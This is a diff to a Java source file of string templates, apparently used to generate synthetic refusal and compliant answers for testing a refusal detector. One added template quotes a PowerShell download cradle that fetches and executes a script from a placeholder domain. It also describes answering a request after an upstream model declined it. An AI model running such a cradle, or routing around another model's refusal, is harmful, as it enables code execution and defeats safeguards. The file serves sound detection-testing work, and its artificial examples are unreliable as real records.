@@ -204,6 +204,10 @@ final class WrittenCyberContent {
         "I'm afraid I can't provide {topic}, even for defensive purposes.",
         "Sorry, I can't do that. Providing {topic} is something I have to decline.",
         "I'm really sorry, but that's not something I can help with.",
+        "Sorry, but I can’t assist with {topic}.",
+        "I’m sorry, I can’t help with that request.",
+        "Apologies, but I'm not able to provide {topic}.",
+        "I'm sorry, but I won't be able to help with {topic}.",
     };
 
     static final String[] HARD_CORES_NO_APOLOGY = {
@@ -219,6 +223,16 @@ final class WrittenCyberContent {
         "I'm going to pass on this one.",
         "That's a line I don't cross: no {topic}.",
         "Nope, not going to help with {topic}.",
+        "I can't help with {topic}.",
+        "I can’t assist with that.",
+        "I don't feel comfortable providing {topic}.",
+        "I'm not able to write {topic}.",
+        "I have to decline: {topic} is outside what I can help with.",
+        "I can't provide {topic}, as it could be used to cause harm.",
+        "I'm not in a position to provide {topic}.",
+        "Providing {topic} isn't something I can do.",
+        "I will not generate {topic}.",
+        "I can't share step-by-step details for {topic}.",
     };
 
     static final String[] HARD_REASONS = {
@@ -242,6 +256,16 @@ final class WrittenCyberContent {
         "Rather than walking through {topic} in detail,",
         "Because {topic} is a sensitive area, I'll keep this general.",
         "Sharing {topic} isn't something I'm comfortable doing without more assurance.",
+    };
+
+    /** Offers that turn a decline into a redirect (soft refusal). */
+    static final String[] REDIRECT_OFFERS = {
+        "If you're defending against this, I can explain how to detect it instead.",
+        "I'd be glad to help with hardening your systems instead.",
+        "If it helps, I can point you to general resources on secure configuration.",
+        "Is there a defensive angle, like monitoring or patching, I can help with instead?",
+        "I can, however, describe the topic at a high level and suggest where to find official guidance.",
+        "Happy to help with something else, such as general security awareness tips.",
     };
 
     static final String[] SOFT_REDIRECTS = {
@@ -288,6 +312,12 @@ final class WrittenCyberContent {
         "The help-desk bot's answer \"{quote}\" in ticket 8812 was correct: the user asked it to disable MFA for another account. Nothing to fix there. The real incident is the three successful VPN logons from {ip} right after that ticket.",
         "Decoded, the C2 response is a JSON object whose `msg` field says \"{quote}\" when the implant's campaign ID is wrong. That's a kill-switch check. Your sandbox run got that message because the sample expects a specific victim domain.",
         "Summary of the audit log: the service account requested the secret 14 times and the vault answered \"{quote}\" each time. That's the policy denying access, which is correct. Rotate the service account credentials anyway, because someone was using it interactively.",
+        "Your agent's run stopped at step 4 because the upstream model answered \"{quote}\" to the request to decode the PowerShell blob. I've decoded it here instead: it is `IEX (New-Object Net.WebClient).DownloadString('hxxp://{domain}/p.ps1')`, a download cradle. Block {domain} and search proxy logs for other hosts fetching p.ps1.",
+        "Found it. In `chat_export.json`, message 118 from the assistant reads \"{quote}\" and every later message in that thread is empty, so the summariser had nothing to work with. Re-run the export with `--include-system` and the summary will complete.",
+        "The honeypot captured the attacker typing a prompt into a stolen chatbot session; the bot's reply was \"{quote}\" Good: it refused. The attacker then switched to a local tool, visible in the next 20 lines of the session log from {ip}. Add that IP to the blocklist.",
+        "Here is the incident timeline:\n\n- {date} 02:14 phishing mail delivered\n- 02:31 macro executed, beacon to {domain}\n- 02:40 operator asked the internal helpdesk bot for admin credentials; bot answered \"{quote}\"\n- 03:05 lateral movement with a stolen service account\n\nContainment started at 03:20.",
+        "To test your refusal detector, use these as negative controls: a compliant answer that quotes \"{quote}\" inside a log excerpt should still be classified as compliant, because the answer itself gives the analysis. Positive controls are answers that open with the decline themselves.",
+        "Grep for the string: `grep -R \"{quote}\" /var/log/llm-gateway/ | wc -l`. On your sample that returns 57 lines, all from the same tenant, which means one client is sending requests the upstream model declines. Look at that tenant's prompts.",
     };
 
     static final String[] ONE_LINE_COMPLIANT = {
@@ -321,6 +351,12 @@ final class WrittenCyberContent {
         "Not vulnerable: that version has the backported fix.",
         "The payload is a Cobalt Strike beacon.",
         "42 hosts are affected.",
+        "Yes, that's an exploit attempt, and it failed.",
+        "Malicious. Quarantine it.",
+        "It's illegal to scan them without permission, so get written approval first, then run `nmap -sV` on the range.",
+        "Sorry, wrong log: the alert came from host WEB-02.",
+        "No exploit needed: the share is world-readable. Fix the ACL.",
+        "Unfortunately, yes: the backup was encrypted too.",
     };
 
     static final String[] ONE_LINE_REFUSALS = {
